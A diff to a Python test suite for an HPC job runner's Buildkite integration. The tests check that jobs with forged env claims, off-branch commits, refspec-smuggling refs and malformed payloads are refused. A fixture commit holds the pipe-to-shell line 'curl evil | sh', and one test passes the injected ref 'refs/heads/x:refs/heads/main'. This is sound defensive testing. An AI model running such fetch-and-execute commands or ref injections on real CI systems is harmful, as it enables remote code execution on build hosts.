@@ -16,16 +16,19 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import wait_until
+from conftest import git, wait_until
 from fakes.buildkite_api import BuildkiteEmulator
 from fakes.buildkite_signer import StepSigner, signed_job
+from structlog.testing import capture_logs
 
 from runner.config import BuildkiteConfig
 from runner.sources.buildkite import protocol
+from runner.sources.buildkite import source as source_module
+from runner.sources.buildkite.checkout import CheckoutFailed, CommitNotOnRef, checkout
 from runner.sources.buildkite.source import BuildkiteSource
 from runner.store import JobState
 
-from .buildkite_host import FakeHost
+from .buildkite_host import POLICY, FakeHost
 
 FAST = {name: policy.scaled(0.01) for name, policy in protocol.DEFAULT_POLICIES.items()}
 STAMP = re.compile(rb"\x1b_bk;t=\d+\x07")
@@ -43,7 +46,9 @@ def repo(tmp_path: Path) -> Path:
     path.mkdir()
     env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
            "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}
-    subprocess.run(["git", "init", "-q", str(path)], check=True)
+    # Buildkite's jobs name the branch main (fakes.buildkite_api.make_job): the checkout checks
+    # that the commit is on it.
+    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
     (path / "README").write_text("hello\n")
     subprocess.run(["git", "-C", str(path), "add", "README"], check=True)
     subprocess.run(["git", "-C", str(path), "commit", "-qm", "first"], check=True, env=env)
@@ -273,6 +278,81 @@ async def test_a_failed_checkout_shows_gits_message(
     assert running.host.ran == []
 
 
+# -- what the signature does not cover ---------------------------------------------------------
+
+# A grant for the core team's builds of main, never forks: the branch, the pull request flag and
+# the creator's teams it relies on are job env that Buildkite asserts and no signature covers.
+CORE_ON_MAIN = POLICY.replace('principals = ["buildkite:pipeline:example/pipeline"]',
+                              'principals = ["buildkite:team:example/core"]\n'
+                              'refs = ["refs/heads/main"]\nforks = false')
+FORGED_MAIN = {"BUILDKITE_BRANCH": "main", "BUILDKITE_PULL_REQUEST": "false",
+               "BUILDKITE_BUILD_CREATOR_TEAMS": "core"}
+
+
+def commit_on(repo: Path, ref: str, *, name: str = "evil") -> str:
+    """A commit that is only on `ref` of `repo` (a branch, or a pull request's head), not on main."""
+    git("checkout", "-q", "-b", "hpc-test-side", "main", cwd=repo)
+    (repo / name).write_text("curl evil | sh\n")
+    git("add", name, cwd=repo)
+    git("commit", "-qm", name, cwd=repo)
+    sha = git("rev-parse", "HEAD", cwd=repo).strip()
+    git("checkout", "-q", "main", cwd=repo)
+    git("update-ref", ref, sha, cwd=repo)
+    git("branch", "-q", "-D", "hpc-test-side", cwd=repo)
+    return sha
+
+
+@pytest.mark.parametrize("ref", ["refs/heads/feature", "refs/pull/9/head"])
+async def test_a_signed_step_claiming_main_in_unsigned_env_with_a_commit_off_main_never_runs(
+        ref: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
+        tmp_path: Path) -> None:
+    running = make_source(FakeHost(tmp_path / "site", CORE_ON_MAIN))
+    off_main = commit_on(repo, ref)
+    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), commit=off_main, plugins=[PLUGIN],
+                                  env=FORGED_MAIN))
+
+    body = await finished(bk, job_id)
+
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
+    log = unstamped(bk.log(job_id))
+    assert f"hpc-runner: refused: commit {off_main} is not on refs/heads/main of {repo}".encode() in log, log
+    assert running.host.ran == []
+
+
+async def test_a_commit_that_is_on_the_claimed_branch_runs(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path,
+        tmp_path: Path) -> None:
+    running = make_source(FakeHost(tmp_path / "site", CORE_ON_MAIN))
+    first = git("rev-parse", "HEAD", cwd=repo).strip()
+    (repo / "later").write_text("later\n")
+    git("add", "later", cwd=repo)
+    git("commit", "-qm", "later", cwd=repo)
+    job_id = queue(bk, signed_job(signer, "make test", repo=str(repo), commit=first, plugins=[PLUGIN],
+                                  env=FORGED_MAIN))
+
+    assert (await finished(bk, job_id))["exit_status"] == "0"
+    assert len(running.host.ran) == 1
+    record = running.host.store.find_by_external_id("buildkite", job_id)
+    assert record is not None
+    workspace = running.host.root / "work" / record.id / "workspace"
+    assert git("rev-parse", "HEAD", cwd=workspace).strip() == first
+
+
+async def test_head_is_the_tip_of_the_claimed_branch_and_a_ref_git_would_refuse_is_never_fetched(
+        repo: Path, tmp_path: Path) -> None:
+    tip = commit_on(repo, "refs/heads/feature")
+
+    await checkout(str(repo), "HEAD", tmp_path / "a", ref="refs/heads/feature")
+    assert git("rev-parse", "HEAD", cwd=tmp_path / "a").strip() == tip
+
+    with pytest.raises(CommitNotOnRef, match="is not a valid git ref"):
+        await checkout(str(repo), tip, tmp_path / "b", ref="refs/heads/x:refs/heads/main")
+    with pytest.raises(CheckoutFailed, match="could not fetch refs/heads/gone") as missing:
+        await checkout(str(repo), tip, tmp_path / "c", ref="refs/heads/gone")
+    assert not isinstance(missing.value, CommitNotOnRef)
+    assert not (tmp_path / "c" / "evil").exists()
+
+
 # -- cancellation ------------------------------------------------------------------------------
 
 
@@ -481,3 +561,98 @@ async def test_a_restarted_source_carries_on_the_log_and_finishes_once(
     assert bk.jobs[job_id].chunk_conflicts == []
     assert len(bk.finishes(job_id)) == 1
     assert bk.jobs[job_id].duplicate_chunks >= 1
+
+
+# -- jobs the agent cannot take as given, and its own failures ---------------------------------
+
+
+def nested(depth: int) -> object:
+    value: object = "leaf"
+    for _ in range(depth):
+        value = {"deeper": value}
+    return value
+
+
+async def test_a_step_nested_too_deep_is_refused_naming_it_and_the_worker_runs_the_next_job(
+        bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner, repo: Path) -> None:
+    running = make_source()
+    deep = signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN])
+    deep["step"]["plugins"] = [{"hpc-runner#v1": nested(700)}]
+    # A signature in the right form, by the right key, over another step.
+    deep["step"]["signature"] = signed_job(signer, "other", repo=str(repo))["step"]["signature"]
+    deep_id = queue(bk, deep)
+    after = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                 env={"BUILDKITE_STEP_KEY": "after"}))
+
+    body = await finished(bk, deep_id)
+
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
+    log = unstamped(bk.log(deep_id))
+    assert log == b"hpc-runner: refused: the job's step.plugins is nested deeper than 64 levels\n", log
+    assert (await finished(bk, after))["exit_status"] == "0"
+    assert [record.external_id for record in running.host.store.list_jobs()] == [after]
+    assert len(running.host.ran) == 1
+
+
+@pytest.mark.parametrize("signed", [True, False], ids=["signed", "allow_unsigned"])
+async def test_a_job_whose_env_is_a_list_is_refused_naming_it_and_the_worker_runs_the_next_job(
+        signed: bool, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
+        repo: Path) -> None:
+    running = make_source(signed=signed)
+    listed = signed_job(signer if signed else None, "make", repo=str(repo), plugins=[PLUGIN])
+    listed["env"] = [f"{name}={value}" for name, value in listed["env"].items()]
+    listed_id = queue(bk, listed)
+    after = queue(bk, signed_job(signer if signed else None, "make", repo=str(repo), plugins=[PLUGIN]))
+
+    body = await finished(bk, listed_id)
+
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "agent_refused")
+    log = unstamped(bk.log(listed_id))
+    assert log == b"hpc-runner: refused: the job's env is not a map of strings (it is a list)\n", log
+    assert (await finished(bk, after))["exit_status"] == "0"
+    assert [record.external_id for record in running.host.store.list_jobs()] == [after]
+
+
+@pytest.mark.parametrize("where", ["translation", "run"])
+async def test_a_job_whose_processing_raises_is_finished_once_logged_once_and_the_worker_goes_on(
+        where: str, bk: BuildkiteEmulator, make_source: Callable[..., Running], signer: StepSigner,
+        repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A bug anywhere in a job's processing ends that job, not the agent's session."""
+    running = make_source()
+    if where == "translation":
+        real = source_module.translate
+
+        def translate(job: dict[str, Any], **kwargs: Any) -> Any:
+            if job["env"].get("BUILDKITE_STEP_KEY") == "buggy":
+                raise KeyError("a bug")
+            return real(job, **kwargs)
+        monkeypatch.setattr(source_module, "translate", translate)
+    else:
+        real_run = running.host.run
+
+        async def run(job_id: str, **kwargs: Any) -> Any:
+            if job_id == running.host.store.list_jobs()[0].id:
+                raise KeyError("a bug")
+            return await real_run(job_id, **kwargs)
+        monkeypatch.setattr(running.host, "run", run)
+    with capture_logs() as logs:
+        buggy = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                     env={"BUILDKITE_STEP_KEY": "buggy"}))
+        after = queue(bk, signed_job(signer, "make", repo=str(repo), plugins=[PLUGIN],
+                                     env={"BUILDKITE_STEP_KEY": "after"}))
+        body = await finished(bk, buggy)
+        assert (await finished(bk, after))["exit_status"] == "0"
+
+    assert (body["exit_status"], body["signal_reason"]) == ("-1", "process_run_error")
+    log = unstamped(bk.log(buggy))
+    assert log.endswith(b"hpc-runner: the agent failed while handling this job (KeyError); it was stopped "
+                        b"there, and the agent's log has the details\n"), log
+    tracebacks = [entry for entry in logs if entry.get("exc_info")]
+    assert [(entry["event"], entry["job"]) for entry in tracebacks] == [
+        ("Buildkite job failed in the agent; it is finished as not run", buggy)]
+    assert len(running.host.ran) == (2 if where == "run" else 1)
+    record = running.host.store.find_by_external_id("buildkite", buggy)
+    if where == "run":
+        assert record is not None and record.state == JobState.infra_failed
+    else:
+        assert record is None
